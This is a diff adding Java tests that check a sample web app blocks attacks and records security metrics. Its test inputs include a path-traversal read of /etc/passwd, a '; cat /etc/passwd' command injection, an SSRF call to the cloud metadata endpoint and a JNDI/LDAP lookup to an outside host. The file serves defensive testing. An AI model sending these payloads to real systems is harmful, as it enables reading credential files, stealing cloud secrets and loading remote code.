@@ -9,6 +9,8 @@ import java.net.http.HttpResponse;
 import java.nio.charset.StandardCharsets;
 import java.util.Base64;
 import java.util.concurrent.atomic.AtomicInteger;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
 
 import dev.aisd.observability.sample.MetricsScrape;
 import io.micrometer.prometheusmetrics.PrometheusMeterRegistry;
@@ -57,6 +59,169 @@ class SampleSecurityTests {
 				"severity", "high");
 		assertThat(MetricsScrape.has(after, "security_attack_score_distribution_bucket", "attack_type",
 				"sql_injection")).isTrue();
+		assertIncreased(before, after, 1, "security_risk_score_distribution_count", "risk_category", "search_query");
+		assertIncreased(before, after, 0.92, "security_risk_score_distribution_sum", "risk_category", "search_query");
+	}
+
+	@Test
+	void parametersWhenPathTraversalThenForbiddenAndIntrusionRecorded() throws Exception {
+		String before = metrics();
+		HttpResponse<String> blocked = get("/api/items?file=" + encode("../../../../etc/passwd"), newClient(), BROWSER);
+		assertThat(blocked.statusCode()).isEqualTo(403);
+		assertThat(blocked.body()).contains("request blocked").doesNotContain("passwd");
+		String after = metrics();
+		assertIncreased(before, after, 1, "security_intrusion_attempts_total", "attack_vector", "path_traversal",
+				"severity", "high");
+		assertIncreased(before, after, 1, "security_waf_rules_triggered_total", "rule_id", "lfi-path-traversal",
+				"severity", "high");
+		assertIncreased(before, after, 1, "security_attacks_blocked_total", "attack_type", "path_traversal");
+		assertIncreased(before, after, 1, "security_risk_score_distribution_count", "risk_category",
+				"request_parameter");
+	}
+
+	@Test
+	void parametersWhenCommandInjectionOrSsrfOrJndiThenForbiddenWithTheirVectors() throws Exception {
+		String before = metrics();
+		String client = newClient();
+		assertThat(get("/api/search?q=" + encode("; cat /etc/passwd"), client, BROWSER).statusCode()).isEqualTo(403);
+		assertThat(get("/api/items/export?callback=" + encode("http://169.254.169.254/latest/meta-data/"), client,
+				BROWSER)
+			.statusCode()).isEqualTo(403);
+		assertThat(get("/api/search?q=" + encode("${jndi:ldap://203.0.113.66/a}"), client, BROWSER).statusCode())
+			.isEqualTo(403);
+		String after = metrics();
+		assertIncreased(before, after, 1, "security_intrusion_attempts_total", "attack_vector", "command_injection",
+				"severity", "critical");
+		assertIncreased(before, after, 1, "security_intrusion_attempts_total", "attack_vector", "ssrf", "severity",
+				"high");
+		assertIncreased(before, after, 1, "security_intrusion_attempts_total", "attack_vector", "jndi_injection",
+				"severity", "critical");
+		assertIncreased(before, after, 0, "security_attacks_blocked_total", "attack_type", "sql_injection");
+	}
+
+	@Test
+	void parametersWhenOrdinaryThenNoIntrusionNorViolation() throws Exception {
+		String before = metrics();
+		assertThat(get("/api/search?q=" + encode("rope & compass"), newClient(), BROWSER).statusCode()).isEqualTo(200);
+		String after = metrics();
+		assertIncreased(before, after, 0, "security_intrusion_attempts_total");
+		assertIncreased(before, after, 0, "security_compliance_violations_total");
+	}
+
+	@Test
+	void parametersWhenCardNumberThenBadRequestAndPciDssViolation() throws Exception {
+		String before = metrics();
+		HttpResponse<String> refused = get("/api/search?q=" + encode("4111 1111 1111 1111"), newClient(), BROWSER);
+		assertThat(refused.statusCode()).isEqualTo(400);
+		assertThat(refused.body()).doesNotContain("4111");
+		assertIncreased(before, metrics(), 1, "security_compliance_violations_total", "policy_type", "PCI-DSS",
+				"severity", "high");
+	}
+
+	@Test
+	void parametersWhenEmailAddressThenBadRequestAndGdprViolation() throws Exception {
+		String before = metrics();
+		assertThat(get("/api/search?q=" + encode("jane.doe@example.com"), newClient(), BROWSER).statusCode())
+			.isEqualTo(400);
+		assertIncreased(before, metrics(), 1, "security_compliance_violations_total", "policy_type", "GDPR",
+				"severity", "medium");
+	}
+
+	@Test
+	void exportWhenWithinLimitThenRows() throws Exception {
+		String before = metrics();
+		HttpResponse<String> export = get("/api/items/export?limit=2", newClient(), BROWSER);
+		assertThat(export.statusCode()).isEqualTo(200);
+		assertThat(export.body()).contains("\"items\":[\"lantern\",\"rope\"]");
+		assertIncreased(before, metrics(), 0, "security_data_exfiltration_attempts_total");
+	}
+
+	@Test
+	void exportWhenTooManyRowsThenForbiddenAndExfiltrationRecorded() throws Exception {
+		String before = metrics();
+		assertThat(get("/api/items/export?limit=100000", newClient(), BROWSER).statusCode()).isEqualTo(403);
+		assertThat(get("/api/items/export?limit=0", newClient(), BROWSER).statusCode()).isEqualTo(400);
+		assertThat(get("/api/items/export?limit=lots", newClient(), BROWSER).statusCode()).isEqualTo(400);
+		assertIncreased(before, metrics(), 1, "security_data_exfiltration_attempts_total", "detection_method",
+				"bulk_export");
+	}
+
+	@Test
+	void itemLookupsWhenOneClientWalksThroughIdsThenExfiltrationAndErrorBurst() throws Exception {
+		String client = newClient();
+		String before = metrics();
+		for (int id = 100; id < 120; id++) {
+			// Mostly 404, and past the rate limit of this context 429: both count.
+			assertThat(get("/api/items/" + id, client, BROWSER).statusCode()).isIn(404, 429);
+		}
+		String after = metrics();
+		assertIncreased(before, after, 1, "security_data_exfiltration_attempts_total", "detection_method",
+				"id_enumeration");
+		assertIncreased(before, after, 1, "security_anomalies_detected_total", "anomaly_type", "error_burst",
+				"confidence", "high");
+		assertIncreased(before, after, 1, "security_anomaly_score_distribution_count", "detector_type",
+				"error_rate");
+	}
+
+	@Test
+	void requestsWhenOneClientFloodsThenRequestBurstAnomaly() throws Exception {
+		String client = newClient();
+		String before = metrics();
+		for (int i = 0; i < 30; i++) {
+			get("/api/items", client, BROWSER);
+		}
+		String after = metrics();
+		assertIncreased(before, after, 1, "security_anomalies_detected_total", "anomaly_type", "request_burst");
+		assertIncreased(before, after, 1, "security_anomaly_score_distribution_count", "detector_type",
+				"request_rate");
+		assertThat(MetricsScrape.value(after, "security_anomaly_score_distribution_sum", "detector_type",
+				"request_rate"))
+			.isPositive();
+	}
+
+	@Test
+	void captchaWhenFlaggedBotSolvesThenSuccessAndFalsePositive() throws Exception {
+		String client = newClient();
+		String before = metrics();
+		String[] challenge = challenge(client, "curl/8.5.0");
+		HttpResponse<String> verified = verify(client, challenge[0], challenge[1]);
+		assertThat(verified.statusCode()).isEqualTo(200);
+		assertThat(verified.body()).contains("\"verified\":true");
+		String after = metrics();
+		assertIncreased(before, after, 1, "security_captcha_successes_total", "captcha_type", "arithmetic");
+		assertIncreased(before, after, 1, "security_false_positives_total", "detection_type", "bot");
+		assertIncreased(before, after, 0, "security_true_positives_total", "detection_type", "bot");
+		assertThat(verify(client, challenge[0], challenge[1]).statusCode()).as("single use").isEqualTo(400);
+	}
+
+	@Test
+	void captchaWhenFlaggedBotFailsThenFailureAndTruePositive() throws Exception {
+		String client = newClient();
+		String before = metrics();
+		String[] challenge = challenge(client, "python-requests/2.32.3");
+		assertThat(verify(client, challenge[0], challenge[1] + "1").statusCode()).isEqualTo(403);
+		String after = metrics();
+		assertIncreased(before, after, 1, "security_captcha_failures_total", "captcha_type", "arithmetic",
+				"failure_reason", "wrong_answer");
+		assertIncreased(before, after, 1, "security_true_positives_total", "detection_type", "bot");
+		assertIncreased(before, after, 0, "security_false_positives_total", "detection_type", "bot");
+	}
+
+	@Test
+	void captchaWhenBrowserOrForgedTokenThenResultWithoutVerdict() throws Exception {
+		String client = newClient();
+		String before = metrics();
+		String[] challenge = challenge(client, BROWSER);
+		assertThat(verify(client, challenge[0], challenge[1]).statusCode()).isEqualTo(200);
+		assertThat(verify(client, "forged-token", "7").statusCode()).isEqualTo(400);
+		assertThat(post("/api/captcha/verify", client, "application/json", "{}").statusCode()).isEqualTo(400);
+		assertThat(post("/api/captcha/verify", client, "application/json", "not json").statusCode()).isEqualTo(400);
+		String after = metrics();
+		assertIncreased(before, after, 1, "security_captcha_successes_total", "captcha_type", "arithmetic");
+		assertIncreased(before, after, 2, "security_captcha_failures_total", "captcha_type", "arithmetic",
+				"failure_reason", "invalid_token");
+		assertIncreased(before, after, 0, "security_true_positives_total", "detection_type", "bot");
+		assertIncreased(before, after, 0, "security_false_positives_total", "detection_type", "bot");
 	}
 
 	@Test
@@ -218,6 +383,26 @@ class SampleSecurityTests {
 		assertThat(MetricsScrape.value(text, "security_mean_time_to_detect_seconds", "incident_type",
 				"credential_stuffing"))
 			.isEqualTo(45.0);
+	}
+
+	/** Ask for a CAPTCHA: its token and the right answer. */
+	private String[] challenge(String client, String userAgent) throws Exception {
+		HttpResponse<String> response = this.http.send(request("/api/captcha/challenge", client)
+			.header("User-Agent", userAgent)
+			.POST(HttpRequest.BodyPublishers.noBody())
+			.build(), HttpResponse.BodyHandlers.ofString());
+		assertThat(response.statusCode()).isEqualTo(200);
+		Matcher token = Pattern.compile("\"token\":\"([0-9a-f-]{36})\"").matcher(response.body());
+		Matcher question = Pattern.compile("What is (\\d) \\+ (\\d)\\?").matcher(response.body());
+		assertThat(token.find()).isTrue();
+		assertThat(question.find()).isTrue();
+		int answer = Integer.parseInt(question.group(1)) + Integer.parseInt(question.group(2));
+		return new String[] { token.group(1), Integer.toString(answer) };
+	}
+
+	private HttpResponse<String> verify(String client, String token, String answer) throws Exception {
+		return post("/api/captcha/verify", client, "application/json",
+				"{\"token\":\"" + token + "\",\"answer\":\"" + answer + "\"}");
 	}
 
 	private static void assertIncreased(String before, String after, double by, String name, String... labels) {
